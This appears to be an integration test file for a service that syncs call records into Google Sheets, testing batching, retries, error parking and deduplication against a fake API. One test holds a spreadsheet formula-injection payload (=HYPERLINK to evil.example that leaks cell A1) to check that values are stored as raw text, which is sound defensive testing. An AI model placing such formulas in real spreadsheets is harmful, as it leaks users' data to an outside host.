import { createTestDatabase, type TestDatabase } from '../../support/database.js';
import { FakeSheetsServer } from '../../support/fake-sheets/fake-sheets-server.js';
import {
  callIdCounts,
  createDrain,
  createUser,
  drainUntilQuiet,
  insertCalls,
  outboxSize,
  rowOf,
  setStatus,
  TAB,
  testSettings,
  type TestUser,
} from './support/harness.js';

describe('Sheets drain against the fake Google Sheets API (real client, real auth, real Postgres)', () => {
  let t: TestDatabase;
  let fake: FakeSheetsServer;
  let user: TestUser;

  beforeAll(async () => {
    t = await createTestDatabase();
    user = await createUser(t.db);
  });
  afterAll(() => t.drop());
  beforeEach(async () => {
    fake = await FakeSheetsServer.start();
    // Each test starts from an empty sheet: row numbers recorded for an earlier fake are meaningless here.
    await t.db.query('TRUNCATE bland_mcp.sheets_rows, bland_mcp.sheets_outbox, bland_mcp.sheets_throttle');
    await t.db.query(`DELETE FROM bland_mcp.leases WHERE name = 'sheets-drain'`);
  });
  afterEach(() => fake.close());

  it('creates the tab with a header, writes one row per call and updates it in place on each status change', async () => {
    const { drain } = createDrain(t.db, testSettings(fake));
    const [id] = await insertCalls(t.db, user, 1);
    await drain.drainOnce();

    const header = fake.rows(TAB)[0]!.map((c) => c?.value);
    expect(header).toEqual(
      expect.arrayContaining(['Call ID', 'Status', 'Transcript (truncated)', 'Simulated']),
    );
    expect(fake.spreadsheet.tab(TAB).protectedRanges).toEqual([
      expect.objectContaining({ warningOnly: true }),
    ]);
    expect(rowOf(fake, id!)).toMatchObject({
      'Call ID': id,
      'User email': user.email,
      'API key (last 4)': user.last4,
      'Phone number': '+15551234567',
      Status: 'queued',
      'Credits held': 120,
      Simulated: true,
    });

    for (const status of ['ringing', 'in_progress', 'completed']) {
      await setStatus(t.db, [id!], status, status === 'completed' ? { duration: 42 } : {});
      await drain.drainOnce();
      expect(rowOf(fake, id!)).toMatchObject({ Status: status });
    }
    expect(rowOf(fake, id!)).toMatchObject({ 'Duration (s)': 42 });
    expect(fake.rows(TAB)).toHaveLength(2);
    expect(callIdCounts(fake).get(id!)).toBe(1);
    expect(await outboxSize(t.db)).toEqual({ pending: 0, parked: 0 });

    const writes = fake.writes().map((w) => w.method);
    expect(writes).toEqual([
      'spreadsheets.batchUpdate',
      'values.append',
      'values.batchUpdate',
      'values.batchUpdate',
      'values.batchUpdate',
    ]);
    // One token, fetched from the key's token_uri with a verified JWT assertion, then reused.
    expect(fake.requests.filter((r) => r.kind === 'token').map((r) => r.status)).toEqual([200]);
  });

  it('sends a small batch at most once per minGapMs, fleet-wide, but a full batch at once', async () => {
    const { drain } = createDrain(t.db, testSettings(fake, { drain: { batchSize: 5, minGapMs: 60_000 } }));
    await insertCalls(t.db, user, 1);
    expect(await drain.drainOnce()).toMatchObject({ appended: 1 });
    await insertCalls(t.db, user, 1);
    expect(await drain.drainOnce()).toMatchObject({ skipped: 'paced' });
    await insertCalls(t.db, user, 4); // five due: a full batch
    expect(await drain.drainOnce()).toMatchObject({ appended: 5, batches: 1 });
  });

  it('never deadlocks with transactions that write several calls: the drain skips rows it would wait for', async () => {
    const { drain, logger } = createDrain(
      t.db,
      testSettings(fake, { drain: { batchSize: 50, intervalMs: 5 } }),
    );
    const ids = await insertCalls(t.db, user, 200);
    drain.start();
    const statuses = ['ringing', 'in_progress', 'completed', 'queued'];
    const until = Date.now() + 2_000;
    // Four writers, each with its own calls (so they never wait for each other), each transaction changing three
    // of them in random order, as the poller or a webhook batch might: lock orders the drain cannot predict.
    await Promise.all(
      [0, 1, 2, 3].map(async (writer) => {
        const mine = ids.filter((_, i) => i % 4 === writer);
        for (let n = 0; Date.now() < until; n++) {
          const picked = [...mine].sort(() => Math.random() - 0.5).slice(0, 3);
          await t.db.transaction(async (tx) => {
            for (const id of picked) {
              await tx.query('UPDATE bland_mcp.calls SET status = $2 WHERE id = $1', [id, statuses[n % 4]]);
              await new Promise((r) => setTimeout(r, 2)); // hold the lock a moment, as real work would
            }
          });
        }
      }),
    );
    await drainUntilQuiet(drain, t.db);
    await drain.stop();
    expect(logger.lines.filter((l) => l.level === 'error')).toEqual([]);
    expect([...callIdCounts(fake).values()].every((n) => n === 1)).toBe(true);
  });

  it('stores a =HYPERLINK(...) task and a +E.164 phone number as text (valueInputOption RAW)', async () => {
    const { drain } = createDrain(t.db, testSettings(fake));
    const task = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';
    const [id] = await insertCalls(t.db, user, 1, { task, phone: '+15550001111' });
    await drain.drainOnce();

    const row = fake.rows(TAB).find((cells) => cells?.[0]?.value === id)!;
    const header = fake.rows(TAB)[0]!.map((c) => c?.value);
    expect(row[header.indexOf('Task (truncated)')]).toEqual({ kind: 'string', value: task });
    expect(row[header.indexOf('Phone number')]).toEqual({ kind: 'string', value: '+15550001111' });
    expect(
      fake
        .writes()
        .filter((w) => w.method.startsWith('values.'))
        .map((w) => w.valueInputOption),
    ).toEqual(['RAW']);
  });

  it('cuts a long transcript below the 50,000-character cell limit and clears cells that become empty', async () => {
    const { drain } = createDrain(t.db, testSettings(fake));
    const [id] = await insertCalls(t.db, user, 1);
    await t.db.query(
      `UPDATE bland_mcp.calls SET transcript = repeat('é🙂', 40000), error_message = 'x' WHERE id = $1`,
      [id],
    );
    await drain.drainOnce();
    const transcript = String(rowOf(fake, id!)!['Transcript (truncated)']);
    expect(transcript.length).toBeLessThan(50_000);
    expect(transcript).toMatch(/^é🙂é🙂.* … \[truncated\]$/su);
    expect(rowOf(fake, id!)!.Error).toBe('x');

    await t.db.query('UPDATE bland_mcp.calls SET error_message = NULL WHERE id = $1', [id]);
    await drain.drainOnce();
    expect(rowOf(fake, id!)!.Error).toBe('');
  });

  it('parks only the row Google refuses (400), with its reason, and writes the others', async () => {
    const { drain, logger, metrics } = createDrain(t.db, testSettings(fake));
    fake.setFaults({
      rejectCell: (v) =>
        v === 'POISON' ? 'Invalid value at \'data.values[12]\' (TYPE_STRING), "POISON"' : undefined,
    });
    const good = await insertCalls(t.db, user, 9);
    const [bad] = await insertCalls(t.db, user, 1, { task: 'POISON' });
    await drain.drainOnce();

    expect([...callIdCounts(fake).keys()].sort()).toEqual([...good].sort());
    expect(await drain.listParked()).toEqual([
      {
        callId: bad,
        reason: expect.stringContaining('400 INVALID_ARGUMENT: Invalid value'),
        parkedAt: expect.any(Date),
      },
    ]);
    expect(logger.lines).toContainEqual({
      level: 'error',
      message: expect.stringContaining(`dead letters (${bad})`),
    });
    const exposition = await metrics.registry.metrics();
    expect(exposition).toMatch(/^bmcp_sheets_dead_letters 1$/m);
    expect(exposition).toMatch(/^bmcp_sheets_parked_total 1$/m);
    // Halving 10 rows down to the refused one costs a handful of requests, not one per row.
    expect(fake.writes().filter((w) => w.method === 'values.append').length).toBeLessThanOrEqual(8);

    // A later change to the call gives it a fresh chance (here it fixes the content).
    await t.db.query(`UPDATE bland_mcp.calls SET task = 'fixed' WHERE id = $1`, [bad]);
    await drain.drainOnce();
    expect(callIdCounts(fake).get(bad!)).toBe(1);
    expect(await outboxSize(t.db)).toEqual({ pending: 0, parked: 0 });
  });

  it('parks what a 403 refused, with the reason, then stops sending until access is back', async () => {
    const { drain, logger } = createDrain(t.db, testSettings(fake, { drain: { batchSize: 10 } }));
    const [synced] = await insertCalls(t.db, user, 1);
    await drain.drainOnce();
    fake.setFaults({ permissionDenied: true });
    await setStatus(t.db, [synced!], 'completed');
    const fresh = await insertCalls(t.db, user, 30);
    await drain.drainOnce();

    // One request's worth was parked (the first append: 9 new calls); the rest waits for access to return.
    const parked = await drain.listParked();
    expect(parked).toHaveLength(9);
    expect(parked[0]!.reason).toBe('403 PERMISSION_DENIED: The caller does not have permission');
    expect(await outboxSize(t.db)).toEqual({ pending: 22, parked: 9 });
    expect(fake.requests.filter((r) => r.status === 403).map((r) => r.method)).toEqual([
      'values.append',
      'spreadsheets.get',
    ]);
    expect(logger.lines).toContainEqual({ level: 'error', message: expect.stringContaining('(denied)') });

    fake.setFaults({});
    expect(await drain.redrive()).toBe(9);
    await drainUntilQuiet(drain, t.db);
    expect([...callIdCounts(fake).keys()].sort()).toEqual([synced, ...fresh].sort());
    expect(rowOf(fake, synced!)).toMatchObject({ Status: 'completed' });
  });

  it('parks a change after the last allowed attempt and keeps going with the others', async () => {
    const { drain } = createDrain(t.db, testSettings(fake, { drain: { maxAttempts: 2 } }));
    await insertCalls(t.db, user, 1);
    await drain.drainOnce();
    fake.setFaults({ serverErrorRate: 1, serverErrorOn: 'writes' });
    const [doomed] = await insertCalls(t.db, user, 1);
    for (let i = 0; i < 50 && (await outboxSize(t.db)).parked === 0; i++) {
      await drain.drainOnce();
      await new Promise((r) => setTimeout(r, 20));
    }
    expect(await drain.listParked()).toEqual([
      {
        callId: doomed,
        reason: 'gave up after 2 attempts: 503 UNAVAILABLE: The service is currently unavailable.',
        parkedAt: expect.any(Date),
      },
    ]);
    fake.setFaults({});
    const [next] = await insertCalls(t.db, user, 1);
    await drainUntilQuiet(drain, t.db);
    expect(callIdCounts(fake).get(next!)).toBe(1);
    expect(callIdCounts(fake).has(doomed!)).toBe(false);
  });

  it('never appends twice when the append landed but its answer was lost (dropped connection, or 500)', async () => {
    const { drain } = createDrain(t.db, testSettings(fake));
    const first = await insertCalls(t.db, user, 3);
    fake.setFaults({ dropAfterWrite: 2 }); // the tab creation and the append both land, unanswered
    await drainUntilQuiet(drain, t.db);
    const second = await insertCalls(t.db, user, 2);
    fake.setFaults({ failAfterWrite: 1 });
    await drainUntilQuiet(drain, t.db);

    const counts = callIdCounts(fake);
    expect([...counts.keys()].sort()).toEqual([...first, ...second].sort());
    expect([...counts.values()].every((n) => n === 1)).toBe(true);
    // The lost appends were each followed by one read of the Call ID column, never by a second append.
    expect(fake.requests.filter((r) => r.method === 'values.append').map((r) => r.rows)).toEqual([3, 2]);
    expect(
      fake.requests.filter((r) => r.method === 'values.get' && r.status === 200).length,
    ).toBeGreaterThanOrEqual(2);
  });

  it('honours Retry-After on a 429 and does not let the Google client retry on its own', async () => {
    const { drain, metrics } = createDrain(t.db, testSettings(fake));
    await insertCalls(t.db, user, 1);
    fake.setFaults({ serverErrorRate: 1 });
    await drain.drainOnce();
    // gaxios would have retried this GET three times; with retry off the drain sees the 503 and backs off.
    expect(fake.requests.filter((r) => r.method === 'spreadsheets.get')).toHaveLength(1);

    fake.setFaults({ rateLimitNext: 1, retryAfterSeconds: 1 });
    await drainUntilQuiet(drain, t.db);
    const api = fake.requests.filter((r) => r.kind !== 'token');
    const limited = api.find((r) => r.status === 429)!;
    const next = api[api.indexOf(limited) + 1]!;
    expect(next.at - limited.at).toBeGreaterThanOrEqual(990);
    expect(await metrics.registry.metrics()).toMatch(/^bmcp_sheets_rate_limited_total 1$/m);
  });

  it('creates the tab again when it is deleted, and appends the changed rows to it', async () => {
    const { drain } = createDrain(t.db, testSettings(fake));
    const ids = await insertCalls(t.db, user, 2);
    await drain.drainOnce();
    fake.spreadsheet.tabs.delete(TAB);
    await setStatus(t.db, [ids[0]!], 'completed');
    await drainUntilQuiet(drain, t.db);
    expect([...callIdCounts(fake).entries()]).toEqual([[ids[0], 1]]);
    expect(rowOf(fake, ids[0]!)).toMatchObject({ Status: 'completed' });
  });

  it('sends nothing and parks nothing when the token endpoint refuses the key', async () => {
    const settings = testSettings(fake);
    const other = await FakeSheetsServer.start();
    // A key the fake did not issue: its signature does not verify against the fake's public key.
    settings.target!.serviceAccount = {
      ...settings.target!.serviceAccount,
      private_key: JSON.parse(other.serviceAccount.json).private_key,
    };
    await other.close();
    const { drain, logger } = createDrain(t.db, settings);
    await insertCalls(t.db, user, 2);
    await drain.drainOnce();

    expect(fake.requests.map((r) => [r.method, r.status])).toEqual([['token', 400]]);
    expect(await outboxSize(t.db)).toEqual({ pending: 2, parked: 0 });
    expect(logger.lines).toContainEqual({
      level: 'error',
      message: expect.stringMatching(/\(auth\).*invalid_grant/),
    });
    expect(await drain.health()).toMatchObject({ state: 'degraded' });
  });
});
